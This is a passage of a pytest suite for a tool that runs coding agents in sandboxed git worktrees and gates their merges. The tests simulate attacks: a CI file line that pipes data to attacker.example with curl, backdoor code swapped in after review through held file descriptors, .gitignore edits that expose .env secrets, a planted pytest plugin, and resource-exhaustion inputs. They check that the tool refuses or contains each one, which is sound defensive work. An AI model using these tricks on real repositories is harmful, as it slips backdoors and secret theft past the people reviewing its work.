    capfd.readouterr()
    assert ap.main(["cleanup", "--dry-run"]) == 0
    out, err = capfd.readouterr()
    assert re.search(r"would remove worktree \S+parallel-1 \(holds its run's uncommitted work",
                     out + err), (out, err)
    assert ap.main(["cleanup"]) != 0
    assert ".architect-parallel-1 holds its run's uncommitted work" in capfd.readouterr()[1]
    assert os.path.exists(repo / ".architect-parallel-1" / "a.txt")


def test_cleanup_keeps_a_repository_the_agent_made_inside_its_worktree(cli, repo, tmp_path):
    """Round 86 (B): the run said a repository inside the worktree "stays in the worktree
    only" (no commit can hold it), and `cleanup` deleted it, its history too, without asking."""
    agent = script(tmp_path, "nested.sh", "echo work > work.txt\nmkdir junk && cd junk && "
                   "git init -q && echo precious > notes.txt && git add . && "
                   "git -c user.name=a -c user.email=a@a commit -qm x\n"
                   "echo '{\"status\": \"success\"}'\n")
    _code, (r,), err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                "--workers", "1")
    assert r["status"] == "success" and "committed without junk/" in (r["error"] or ""), (r, err)
    code, out, err = cli("cleanup")
    assert code != 0 and "holds its run's uncommitted work, which no commit holds (or a " \
        "repository inside it)" in err, (out, err)
    assert (repo / ".architect-parallel-1" / "junk" / "notes.txt").exists()
    assert cli("cleanup", "--force")[0] == 0


def test_cleanup_takes_a_branch_whose_later_commits_you_merged(cli, repo):
    """Round 86 (B): a commit made on a worker's branch after its run and then merged into
    your branch still made `cleanup` refuse ("has commits made after the last run ended"):
    nothing of it would be lost."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    wt = repo / ".architect-parallel-1"
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "by hand", cwd=wt)
    code, _out, err = cli("cleanup", "--dry-run")
    assert "has commits made after the last run ended" in err
    assert cli("merge", "1", "--force")[0] == 0
    code, out, err = cli("cleanup")
    assert code == 0 and "deleted branch architect/parallel-1" in out + err, (out, err)


def test_merge_best_of_work_no_commit_holds_says_so(cli, repo):
    """A --no-commit race's footer said `merge best`, which then said "already merged;
    nothing to do" and exited 0, the winner's work still only in its worktree."""
    code, out, err = cli("fake:write=a.txt", "--workers", "1", "--no-commit")
    assert "its work is uncommitted in its worktree: keep it with 'git -C " \
        ".architect-parallel-1 add -A && git -C .architect-parallel-1 commit', then" in out + err
    code, out, err = cli("merge", "best")
    assert code == 2 and "left its work uncommitted in" in err and "already merged" not in err
    assert not (repo / "a.txt").exists()
    code, out, err = cli("merge", "best", "--force")
    assert "warning: architect/parallel-1's worker left its work uncommitted" in err


# -- review round 87 ---------------------------------------------------------------------------

def test_a_worker_that_changed_nothing_is_not_held_back_by_its_checks_output(cli, repo):
    """Round 87 (B): round 86 took a worker that changed nothing (no commit) whose check left
    a file for one whose work was only in its worktree: `merge all` refused (for the other
    worker's work too), `cleanup` refused, and `diff 1` showed the check's output as its work."""
    code, out, err = cli("--task", "fake:json=success", "--task", "fake:write=a.txt",
                         "--workers", "2", "--check", "echo x > check-output.txt")
    assert code == 0, (out, err)
    code, out, err = cli("diff", "1")
    assert code == 0 and "check-output.txt" not in out + err, (out, err)
    code, out, err = cli("merge", "all")
    assert code == 0 and "left its work uncommitted" not in err, (out, err)
    assert (repo / "a.txt").exists()
    code, out, err = cli("cleanup")
    assert code == 0, (out, err)


def test_a_continue_of_work_no_commit_holds_records_no_commit(cli, repo):
    """Round 87 (B): `continue` of a --no-commit worker recorded the base commit as its commit
    (its branch had not moved): `merge best` then said "already merged" and `diff` showed
    nothing, the work only in the worktree."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    code, out, err = cli("continue", "1", "fake:write=b.txt")
    assert code == 0, (out, err)
    last = json.loads((repo / ".git" / "architect-parallel" / "last-run.json").read_text())
    (r,) = last["results"]
    assert r["commit"] is None and set(r["files_modified"]) >= {"a.txt", "b.txt"}, r
    code, out, err = cli("merge", "best")
    assert code == 2 and "left its work uncommitted" in err and "already merged" not in err


def test_work_committed_by_hand_as_the_footer_says_is_merged_without_force(cli, repo):
    """Round 87 (B): after a --no-commit run, committing the work in its worktree as the
    footer says and then `merge best` was refused ("not where its run left it") without
    --force, which waives every other refusal too. Such commits are what is merged now; the
    other refusals still hold."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    wt = repo / ".architect-parallel-1"
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    code, out, err = cli("merge", "best")
    assert code == 0 and "holds commits made after its run, whose work was in its worktree " \
        "only" in err, (out, err)
    assert (repo / "a.txt").exists()


def test_work_committed_by_hand_is_still_refused_what_the_other_checks_refuse(cli, repo):
    """The same, with a commit that adds a hook-like file your git would run: still refused."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    wt = repo / ".architect-parallel-1"
    (wt / "evil.txt").write_text("x\u202ey\n")
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    code, out, err = cli("merge", "best")
    assert code == 2 and "--force" in err and not (repo / "a.txt").exists(), (out, err)


@pytest.mark.parametrize("stop", [False, True])
def test_measuring_a_pack_counts_its_deltas_and_stops(tmp_path, monkeypatch, stop):
    """Round 87 (A): only what each delta makes was counted: 10,000 deltas of 99 MB of zeros
    (100 KB each, packed), each claiming to make 13 bytes, took the runner an hour to inflate,
    deaf to Ctrl-C and to the timeout. The deltas count too now (1 GB in all; 1 MB here), and
    a stop stops the measuring."""
    monkeypatch.setattr(ap, "_OBJECTS_LIMIT", 1 << 20)
    delta = bytes([5, 13]) + bytes(600_000)
    path = tmp_path / "p.pack"
    path.write_bytes(_pack((3, 5, b"hello", None), (7, len(delta), delta, "ab" * 20),
                           (7, len(delta), delta, "ab" * 20)))
    event = ap.threading.Event()
    if stop:
        event.set()
    with open(path, "rb") as f:
        problem = ap._pack_sizes(f, 20, None, event)
    assert problem == "bringing its objects in stopped" if stop else \
        "its objects are too large to take in" in (problem or ""), problem


def test_a_packed_refs_file_is_read_as_a_stream(tmp_path):
    """Round 87 (A): a sandbox's packed-refs of 64 MB of empty lines, read whole and split,
    took the runner to 650 MB a worker. It is read a MB at a time now, by lines that are refs;
    a line split between reads, one over 8 KB and a last one with no line end are read right."""
    import tracemalloc
    sha = "a" * 40
    (tmp_path / "empty").write_bytes(b"\n" * (64 << 20))
    parts = [b"# pack-refs with: peeled\n", f"{sha} refs/heads/x\n".encode(),
             b"\n" * ((1 << 20) - 70), f"{sha} refs/heads/split\n".encode(),
             b"b" * 20000 + f" {sha} refs/heads/long\n".encode(), f"^{sha}\n".encode(),
             f"{sha} refs/tags/last".encode()]
    (tmp_path / "mixed").write_bytes(b"".join(parts))
    tracemalloc.start()
    try:
        assert list(ap._packed_ref_lines(str(tmp_path), "empty")) == []
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20, peak
    assert list(ap._packed_ref_lines(str(tmp_path), "mixed")) == [
        ("heads/x", sha), ("heads/split", sha), ("tags/last", sha)]
    assert list(ap._packed_ref_lines(str(tmp_path), "mixed", 1)) == [("heads/x", sha)]


@needs_bwrap
def test_a_branch_its_packed_refs_names_twice_is_not_taken(cli, repo, tmp_path):
    """Which of two lines for one name git reads depends on how it searches the file: such a
    branch is not taken, and the worker fails."""
    r, err = _one_worker(cli, tmp_path, "echo x > x.txt && git add -A && "
                         "git commit -qm own && git pack-refs --all --prune && "
                         "echo \"$(git rev-parse HEAD^) refs/heads/architect/parallel-1\" >> "
                         "\"$(git rev-parse --git-common-dir)/packed-refs\"\n", "true", "bwrap",
                         "--no-commit")
    assert r["status"] == "failed" and "names its branch architect/parallel-1 twice" in \
        r["error"], (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo).strip() == r["base_commit"]


# -- review round 88 ---------------------------------------------------------------------------

@pytest.mark.parametrize("after", [None, "rewritten", "added"])
def test_work_committed_by_hand_must_be_what_the_run_left(cli, repo, after):
    """Round 88 (B): round 87 merged, without --force, any commits made on a --no-commit
    worker's branch after its run: `attacker`, handed a descriptor of `app.py` by the agent's
    check, rewrote it after the user's `diff`, the user committed as the footer says, and
    `merge best` took the backdoor. Such commits are merged without --force only when they
    hold the files the run left in the worktree (its checks' output too)."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit", "--check",
               "echo out > check-output.txt")[0] == 0
    wt = repo / ".architect-parallel-1"
    if after == "rewritten":
        (wt / "a.txt").write_text("import os\nos.system('id')\n")
    elif after == "added":
        (wt / "later.py").write_text("import os\n")
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    code, out, err = cli("merge", "best")
    if after is None:
        assert code == 0 and "they hold what its run left there" in err, (out, err)
        assert (repo / "a.txt").exists()
    else:
        assert code == 2 and "whose files are not what its run left in its worktree" in err, \
            (out, err)
        assert not (repo / "a.txt").exists()


def test_measuring_a_pack_reads_it_about_once(tmp_path):
    """Round 88 (A): each entry was read a MB ahead, and what followed it read again: a pack of
    100,000 small objects took 10 s (0.5 s now). Counted in bytes read, not in time."""
    path = tmp_path / "p.pack"
    path.write_bytes(_pack(*[(3, 7, b"hello %d" % (i % 10), None) for i in range(3000)]))
    read = []

    class Counted(io.BufferedReader):
        def read(self, size=-1):
            data = super().read(size)
            read.append(len(data))
            return data

    with Counted(io.FileIO(str(path))) as f:
        assert ap._pack_sizes(f, 20) is None
    assert sum(read) < 8 * path.stat().st_size, (sum(read), path.stat().st_size)


# -- review round 89 ---------------------------------------------------------------------------

def test_a_descriptor_handed_out_during_the_checks_writes_nothing_the_user_reviews(
        cli, repo, tmp_path):
    """Round 89 (B): a --no-commit worker's check handed `attacker` a descriptor of `a.txt`;
    after the run it showed `diff` honest content, then put back what the run recorded, which
    the user committed as the footer says and `merge best` took without --force. Every file of
    such a worktree is a new one when the run records it: a descriptor opened during the run
    writes nothing there. (Here the test holds the descriptor, opened while the check waits.)"""
    import threading
    opened, held = tmp_path / "opened", {}

    def attacker():
        for _ in range(6000):  # (waits for the check, an event: at most 60 s)
            if (tmp_path / "waiting").exists():
                break
            time.sleep(0.01)
        held["fd"] = os.open(repo / ".architect-parallel-1" / "a.txt", os.O_WRONLY)
        opened.touch()

    thread = threading.Thread(target=attacker)
    thread.start()
    check = f"touch {tmp_path}/waiting; while [ ! -e {opened} ]; do sleep 0.01; done"
    try:
        assert cli("fake:write=a.txt", "--workers", "1", "--no-commit", "--check", check)[0] == 0
    finally:
        thread.join()
    wt = repo / ".architect-parallel-1"
    before = (wt / "a.txt").read_bytes()
    os.pwrite(held["fd"], b"import os; os.system('id')\n", 0)
    os.close(held["fd"])
    assert (wt / "a.txt").read_bytes() == before
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    code, out, err = cli("merge", "best")
    assert code == 0 and (repo / "a.txt").read_bytes() == before, (out, err)


# -- review round 90 ---------------------------------------------------------------------------

@pytest.mark.skipif(os.geteuid() != 0, reason="gives a file to another account (root only)")
def test_work_only_in_a_worktree_holding_another_accounts_file_is_not_trusted(cli, repo):
    """Round 90 (A): a --no-commit worker's check opened its worktree's folder to all, and
    `attacker` renamed a file of its own in; its owner may write it whatever its mode, so it
    showed `diff` one content and the user's commit (the recorded tree) another, which
    `merge best` took. Such a worker fails now, and no tree is recorded for it."""
    code, out, err = cli("fake:write=a.txt", "--workers", "1", "--no-commit", "--check",
                         "chmod 777 . && echo 'print(1)' > app.py && chown 4242 app.py")
    assert code == 1 and "its work, only in its worktree, cannot be trusted there: its " \
        "worktree holds what another account owns or may write: app.py (uid 4242)" in out + err, \
        err[-3000:]
    wt = repo / ".architect-parallel-1"
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    code, out, err = cli("merge", "1")
    assert code == 2 and "--force" in err, (out, err)


@pytest.mark.parametrize("path, refused", [
    (".gitlab-ci.yml", True), (".github/workflows/ci.yml", True), (".github/actions/a/action.yml",
                                                                    True),
    (".circleci/config.yml", True), ("Jenkinsfile", True), (".GitHub/Workflows/x.yml", True),
    ("azure-pipelines.yml", True), ("src/ci.py", False), ("docs/github-workflows.md", False),
    # round 91: more services, a dependency bot's registries, code owners, actions anywhere
    (".woodpecker.yaml", True), (".builds/ci.yml", True), ("netlify.toml", True),
    (".github/dependabot.yml", True), (".github/CODEOWNERS", True), ("tools/ci/action.yml", True),
    (".devcontainer/devcontainer.json", True), (".gitlab/issue_templates/Bug.md", False),
])
def test_what_a_ci_service_runs_asks_for_force(repo, path, refused):
    """Round 90 (B): a branch changing `.gitlab-ci.yml` or `.github/workflows/` merged with no
    word, and collect kept it for publishing: a push of it (or a pull request from it) runs
    what the agent wrote with the repository's CI secrets."""
    base, tip = _changes(repo, {path: "run: curl -d @- https://attacker.example\n"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("changes what your CI runs" in w for w in why) == refused, why


def test_merge_refuses_a_branch_that_changes_ci_configuration(cli, repo, tmp_path):
    (repo / "result.txt").write_text("before\n")
    _merge_refused(cli, repo, tmp_path, "mkdir -p .github/workflows && echo 'on: push' > "
                   ".github/workflows/ci.yml\necho ok > result.txt\n",
                   "changes what your CI runs (.github/workflows/ci.yml)")


# -- review round 91 ---------------------------------------------------------------------------

def test_an_ignore_file_rewritten_while_the_worktree_is_renewed_hides_nothing(
        cli, repo, tmp_path, monkeypatch):
    """Round 91 (A): the folders left out of the renewal were those the .gitignore files ignored
    when listed; `attacker` then rewrote `pkg/.gitignore` through a descriptor before that file
    was renewed, so `pkg/evil/` (not renewed, its x.py still writable through another descriptor)
    was in the recorded tree: it showed `diff` honest code and the user's commit the backdoor,
    which `merge best` took. The ignore files are renewed before the listing now. (The two
    descriptors are opened here as the worker ends, and written right after the listing.)"""
    agent = script(tmp_path, "agent.sh", "mkdir -p pkg/evil && echo 'evil/' > pkg/.gitignore\n"
                   "echo \"V = 'honest'\" > pkg/evil/x.py && echo 'import pkg' > app.py\n"
                   "echo '{\"status\": \"success\"}'\n")
    wt, held = repo / ".architect-parallel-1", {}
    foreign, listed = ap._foreign_entries, ap._Repo.ignored_folders

    def opened(top, *args, **kwargs):  # (what the run's check handed out)
        if not kwargs:  # (at the worker's end; not before its commit, see _heavy)
            held["ignore"] = os.open(wt / "pkg" / ".gitignore", os.O_WRONLY)
            held["x"] = os.open(wt / "pkg" / "evil" / "x.py", os.O_WRONLY)
        return foreign(top, *args, **kwargs)

    def written(self, path):
        found = listed(self, path)
        if "ignore" in held and not held.get("done"):
            held["done"] = True
            os.ftruncate(held["ignore"], 0)
            os.pwrite(held["ignore"], b"# nothing\n", 0)
            os.pwrite(held["x"], b"import os; os.system('id')\n", 0)
        return found

    monkeypatch.setattr(ap, "_foreign_entries", opened)
    monkeypatch.setattr(ap._Repo, "ignored_folders", written)
    assert cli("run", "t", "--workers", "1", "--no-commit", "--agent-cmd",
               f"{agent} {{task}}")[0] == 0
    os.ftruncate(held["x"], 0)
    os.pwrite(held["x"], b"V = 'honest'\n", 0)  # (what `diff best` shows)
    os.ftruncate(held["x"], 0)
    os.pwrite(held["x"], b"import os; os.system('id')\n", 0)
    git("add", "-A", cwd=wt)
    git("commit", "-qm", "the work", cwd=wt)
    cli("merge", "best")
    merged = git("ls-tree", "-r", "--name-only", "HEAD", cwd=repo).split()
    assert "pkg/evil/x.py" not in merged or "os.system" not in \
        (repo / "pkg" / "evil" / "x.py").read_text(), merged


# -- review round 92 ---------------------------------------------------------------------------

@pytest.mark.parametrize("ignore", [("", "__pycache__/\n"), ("", "__pycache__/\n.env\n!.env\n"),
                                    ("config/", "!secrets.json\n")])
def test_a_gitignore_that_stops_ignoring_your_files_asks_for_force(cli, repo, tmp_path, ignore):
    """Round 92 (B): a branch's .gitignore stopped ignoring your .env (or a nested one
    un-ignored config/secrets.json): `merge best` took it, and your next `git add -A` committed
    the secret."""
    (repo / ".gitignore").write_text("__pycache__/\n.env\nconfig/secrets.json\n")
    (repo / "config").mkdir()
    (repo / "config" / "app.ini").write_text("x\n")
    (repo / ".env").write_text("AWS_SECRET=supersecret\n")
    (repo / "config" / "secrets.json").write_text("{}\n")
    folder, text = ignore
    _merge_refused(cli, repo, tmp_path, f"printf '{text}' > {folder}.gitignore\n"
                   "echo ok > result.txt\n", "has .gitignore files that no longer ignore files "
                   "of yours (" + ("config/secrets.json" if folder else ".env"))


@pytest.mark.parametrize("env, name", [
    ({}, ".fmt-1.0.dist-info/entry_points.txt"),
    ({}, "fmt.egg-info/entry_points.txt"),
    ({"PYTHONPATH": "src"}, "src/Fmt-1.0.DIST-INFO/entry_points.txt"),
])
def test_a_distributions_metadata_where_python_starts_counts(repo, monkeypatch, env, name):
    """Round 92 (B): a hidden `.fmt-1.0.dist-info/entry_points.txt` at the top declared a
    `pytest11` plugin pointing at the project's own `app` module (its new `pytest_configure`):
    `python -m pytest` loaded it, as you, after `merge best` took it with no word."""
    base, tip = _changes(repo, {name: "[pytest11]\nfmt = app\n"})
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


# -- review round 93 ---------------------------------------------------------------------------

@pytest.mark.parametrize("body, refused", [
    ("printf 'secrets/*\\n.env\\n!secrets/.env\\n' > .gitignore\n", "secrets/.env"),
    ("echo star > '*' && rm .gitignore && ln -s '*' .gitignore\n", ".env"),
    ("mkdir -p config && printf '!.env\\n' > config/.gitignore\n", "config/.env"),
    ("printf '\\n*.log\\n' >> .gitignore\n", None),
    # round 94: a byte order mark before a `!` line (git drops it, Python's lstrip did not)
    ("mkdir -p config && printf '\\357\\273\\277!.env\\n' > config/.gitignore\n", "config/.env"),
])
def test_your_ignored_files_stay_ignored_whatever_the_branch_does(cli, repo, tmp_path, body,
                                                                   refused):
    """Round 93 (B): round 92's check tried one made-up file for each ignored folder of yours
    (`secrets/*` with `!secrets/.env` passed), and read a .gitignore that a branch made a link
    as the file it leads to (git reads no rules from a link: `.env` and `secrets/.env` shown).
    Now each ignored file of yours is asked about, a link holds no rules, and a branch that
    only adds rules that ignore more is not asked about at all."""
    (repo / ".gitignore").write_text("secrets/\n.env\nconfig/.env\n")
    (repo / "secrets").mkdir()
    (repo / "config").mkdir()
    for name in ("secrets/.env", ".env", "config/.env"):
        (repo / name).write_text("AWS_SECRET=x\n")
    (repo / "result.txt").write_text("before\n")
    if refused:
        _merge_refused(cli, repo, tmp_path, body + "echo ok > result.txt\n",
                       "has .gitignore files that no longer ignore files of yours")
        assert refused in cli("merge", "best")[2]
    else:
        git("add", "-A", cwd=repo)
        git("commit", "-qm", "before", cwd=repo)
        agent = script(tmp_path, "agent.sh", body + "echo ok > result.txt\n")
        assert cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")[0] == 0
        code, _out, err = cli("merge", "best")
        assert code == 0, err


def test_your_repositorys_own_excludes_file_is_read_too(cli, repo, tmp_path):
    """Round 93 (B): a repository's own core.excludesFile was not read in the scratch
    repository: an honest branch adding `*.log` was refused for your `id.key` it ignores."""
    (tmp_path / "myexcl").write_text("*.key\n")
    git("config", "core.excludesFile", str(tmp_path / "myexcl"), cwd=repo)
    (repo / "id.key").write_text("k\n")
    (repo / ".gitignore").write_text(".env\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    agent = script(tmp_path, "agent.sh", "printf '!nothing\\n' >> .gitignore\n")
    assert cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")[0] == 0
    code, _out, err = cli("merge", "best")
    assert code == 0, err


@pytest.mark.parametrize("name", [".gitignore", ".gitattributes"])
def test_gitignore_files_too_large_for_git_to_read_ask_for_force(repo, name):
    """Round 93 (A): 40 nested .gitignore files of 1 MB (one blob, 40 names: no size limit
    saw them) took each git reading them 1.5 GB and 50 s, the merge checks' too; round 94:
    .gitattributes files the same (`merge best` 4 minutes, 2.8 GB). Past 256 KB of both in
    all, merge asks for --force before any git reads them."""
    rules = "q\n" * 50_000
    base, tip = _changes(repo, {f"d/{name}": rules, f"d/d/{name}": rules,
                                f"d/d/d/{name}": rules, "d/d/d/keep.txt": "x\n"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert len(why) == 1 and why[0].startswith("holds .gitignore and .gitattributes files of "
                                               "292 KB in all"), why


def test_a_gitignore_named_out_of_the_tree_is_written_nowhere(repo, tmp_path):
    """A tree entry `..` (git refuses to check one out; an unsandboxed agent can write such
    objects) holding a .gitignore: the scratch repository that asks git about your ignored
    files must not write it above itself. Merge says it cannot tell instead."""
    (repo / ".gitignore").write_text(".env\n")
    (repo / ".env").write_text("x\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input=b"!*\n",
                          capture_output=True, check=True).stdout.decode().strip()
    sub = subprocess.run(["git", "mktree"], cwd=repo, input=f"100644 blob {blob}\t.gitignore\n"
                         .encode(), capture_output=True, check=True).stdout.decode().strip()
    base = git("rev-parse", "HEAD", cwd=repo)
    tree = subprocess.run(["git", "mktree"], cwd=repo, input=(
        git("ls-tree", "HEAD", cwd=repo) + f"\n040000 tree {sub}\t..\n").encode(),
        capture_output=True, check=True).stdout.decode().strip()
    tip = git("commit-tree", tree, "-p", base, "-m", "dotdot", cwd=repo)
    before = set(os.listdir(tempfile.gettempdir()))
    found = ap._Repo.find(str(repo)).unignored_yours(base, (tip,))
    assert found == ["(../.gitignore: a path out of the checkout)"], found
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), ".gitignore")) or \
        ".gitignore" in before


# -- review round 95 ---------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    "printf '*.log\\n.env\\n!.env.example\\n' > .gitignore\nprintf 'A=1\\n' > .env.example\n",
    "printf '.env\\n*.log\\n' > .gitignore\n",  # (reordered: asked of git)
])
def test_your_untracked_gitignore_files_count_where_the_branch_has_none(cli, repo, tmp_path,
                                                                        body):
    """Round 95 (B): the scratch repository that asks git about your ignored files held the
    branch's .gitignore files only: pytest's `.pytest_cache/.gitignore` (`*`, untracked,
    ignoring itself) was missing there, so every file of that cache looked shown and any
    branch that did more than add rules was refused. Your untracked ones stay where a merge
    puts none, and are read there too; one of yours the branch replaces is not."""
    (repo / ".gitignore").write_text("*.log\n.env\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    cache = repo / ".pytest_cache"
    cache.mkdir()
    (cache / ".gitignore").write_text("# Created by pytest automatically.\n*\n")
    (cache / "README.md").write_text("cache\n")
    (repo / "mine").mkdir()
    (repo / "mine" / ".gitignore").write_text("key.pem\n")  # (untracked, not ignored)
    (repo / "mine" / "key.pem").write_text("secret\n")
    (repo / ".env").write_text("AWS_SECRET=x\n")
    agent = script(tmp_path, "agent.sh", body)
    assert cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")[0] == 0
    code, _out, err = cli("merge", "best")
    assert code == 0, err
    assert git("status", "--porcelain", cwd=repo) == "?? mine/"  # (its .gitignore only)
    assert git("check-ignore", "mine/key.pem", ".pytest_cache/README.md", ".env",
               cwd=repo).split() == ["mine/key.pem", ".pytest_cache/README.md", ".env"]


def test_your_untracked_gitignore_a_branch_would_replace_is_not_read(repo):
    """The other half: where the branch has a .gitignore of its own at the path of an
    untracked one of yours, what it un-ignores is still found (a merge puts its own there)."""
    base, tip = _changes(repo, {"cfg/.gitignore": "!local.env\n"})
    (repo / "cfg").mkdir()
    (repo / "cfg" / ".gitignore").write_text("local.env\n")  # (yours, untracked)
    (repo / "cfg" / "local.env").write_text("secret\n")
    found = ap._Repo.find(str(repo)).unignored_yours(base, (tip,))
    assert found == ["cfg/local.env"], found


HEAVY = """python3 - <<'PY'
import os
rules = ("x" * 1000 + "\\n") * 100
os.makedirs("n", exist_ok=True)
with open("n/NAME", "w") as f:
    f.write(rules)
p = "n"
for i in range(4):
    p = os.path.join(p, "d")
    os.makedirs(p, exist_ok=True)
    os.link("n/NAME", os.path.join(p, "NAME"))
PY
"""


@pytest.mark.parametrize("name", [".gitignore", ".gitattributes"])
@pytest.mark.parametrize("by", ["agent", "check"])
@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_worktree_of_too_many_rules_fails_before_the_runners_gits_read_them(
        cli, repo, tmp_path, name, by, sandbox):
    """Rounds 93 and 94 (A), admitted then: 40 nested .gitignore (or .gitattributes) files of
    1 MB, one file under 40 names, took each git the runner started in that worktree some
    1.5 GB and tens of seconds. Now the worktree's rules are counted (name by name, no file
    read) after the agent and after its checks: past merge's 256 KB the worker fails, its
    work neither committed nor checked, and cleanup keeps what is there without --force.
    Here 500 KB (five names of one 100 KB file)."""
    heavy = HEAVY.replace("NAME", name)
    agent = script(tmp_path, "agent.sh", (heavy if by == "agent" else "") +
                   "echo work > work.txt\necho '{\"status\": \"success\"}'\n")
    check = ("sh -c " + shlex.quote(heavy)) if by == "check" else "true"
    _code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd",
                                   f"{agent} {{task}}", "--check", check, *boxed(sandbox))
    (r,) = results
    assert r["status"] == "failed", r
    assert "its worktree holds .gitignore and .gitattributes files of over 256 KB" in r["error"]
    if by == "agent":
        assert r["commit"] is None and r["checks"] == [], r
        assert git("rev-parse", "architect/parallel-1", cwd=repo) == git("rev-parse", "HEAD",
                                                                         cwd=repo)
    else:
        assert r["commit"] and r["checks_passed"] == 1, r
    code, _out, err = cli("cleanup")
    assert code == 2 and "would delete work" in err, err
    assert (repo / ".architect-parallel-1" / "work.txt").exists()
    assert cli("cleanup", "--force")[0] == 0
    assert not (repo / ".architect-parallel-1").exists()


def test_the_rules_of_links_or_a_git_folder_are_not_counted(tmp_path):
    """What git never reads as rules there is not counted: a .gitignore link (git reads no
    rules through one), a folder named .git. A folder holding a `.git` is counted: git
    reads its rules when that `.git` is no repository (an empty folder, a bogus file)."""
    top = tmp_path / "wt"
    (top / "inner" / ".git").mkdir(parents=True)
    (top / "inner" / ".git" / ".gitignore").write_bytes(b"x" * (300 << 10))
    (top / ".git").write_text("gitdir: elsewhere\n")
    (tmp_path / "big").write_bytes(b"x" * (300 << 10))
    (top / "sub").mkdir()
    os.symlink(tmp_path / "big", top / "sub" / ".gitignore")
    (top / "sub" / ".GITATTRIBUTES").write_bytes(b"y" * 1000)
    assert ap._rules_in_worktree(str(top)) == 1000
    (top / "inner" / ".gitignore").write_bytes(b"w" * 2000)
    assert ap._rules_in_worktree(str(top)) == 3000
    (top / "sub" / "deep").mkdir()
    (top / "sub" / "deep" / ".gitignore").write_bytes(b"z" * (300 << 10))
    assert ap._rules_in_worktree(str(top)) > ap._IGNORE_RULES_LIMIT


def _long_names(repo, count, message="long names"):
    """A commit over HEAD adding ``count`` files of one blob under names of some 3.8 KB each
    (15 folders of 240 characters, then 200), made with git's plumbing: (base, tip)."""
    def mktree(lines):
        return subprocess.run(["git", "mktree", "-z"], cwd=repo, check=True, capture_output=True,
                              input="".join(lines).encode()).stdout.decode().strip()

    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input=b"x\n",
                          capture_output=True, check=True).stdout.decode().strip()
    tree = mktree(f"100644 blob {blob}\t{'f' * 200}{i}\0" for i in range(count))
    for level in reversed(range(15)):
        tree = mktree([f"040000 tree {tree}\t{'d' * 240}{level}\0"])
    top = git("ls-tree", "-z", "HEAD", cwd=repo).rstrip("\0").split("\0")
    tree = mktree([line + "\0" for line in top if line] + [f"040000 tree {tree}\tdeep\0"])
    base = git("rev-parse", "HEAD", cwd=repo)
    return base, git("commit-tree", tree, "-p", base, "-m", message, cwd=repo)


def test_the_diff_listing_of_many_long_names_is_never_held(repo):
    """Round 95 (A): `report`, `diff --stat` and `merge` held git's listing of a worker's
    files whole, several times over (50,000 hard links of one file under 3.8 KB names, one
    second of an agent's: `report` 2.2 GB and 129 s for three such workers). The listing and
    the sizes now go through files: 2,000 such names (7.6 MB) cost no memory here."""
    import tracemalloc
    base, tip = _long_names(repo, 2000)
    r = ap._Repo.find(str(repo))
    tracemalloc.start()
    try:
        large = ap._too_large_to_diff(r, r.top, ["--text", "--end-of-options", f"{base}...{tip}"])
        files = ap._read_file_diffs(r, r.top, [f"{base}...{tip}"], [100, 1 << 16], text=True,
                                    keep=50)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert large == ([], [])
    assert len(files) == 50 and files.beyond == 1950, (len(files), files.beyond)
    assert peak < 4 << 20, peak  # (held whole: some 40 MB)


def test_a_branch_naming_too_many_paths_is_diffed_by_no_command(cli, repo, tmp_path):
    """Past 16 MB of names more than its base (4 MB for merge and collect), no git is asked
    to diff a branch: `diff`, `diff --stat`, the report and the step summary say why, and
    `merge` asks for --force before any of its checks list them. Here 5,000 names of
    3.6 KB (18 MB): hard links of one file, as the runner commits them."""
    agent = script(tmp_path, "agent.sh", f"""{sys.executable} - <<'PY'
import os
folder = os.path.join("deep", *("d" * 240 + str(level) for level in range(14)))
os.makedirs(folder)
first = os.path.join(folder, "f" * 200 + "0")
with open(first, "w") as f:
    f.write("x\\n")
for i in range(1, 5000):
    os.link(first, os.path.join(folder, "f" * 200 + str(i)))
PY
echo '{{"status": "success"}}'
""")
    summary = tmp_path / "summary.md"
    code, _out, err = cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}",
                          "--summary", str(summary))
    assert code == 0, err
    said = re.compile(r"names 1\d MB of paths more than its base does \(over 16 MB\): git's "
                      "diff of them would hold them many times over")
    for args in (["diff", "1"], ["diff", "1", "--stat"]):
        code, out, err = cli(*args)
        assert code != 0 and said.search(err) and out == "", (args, err)
    assert cli("report")[0] == 0
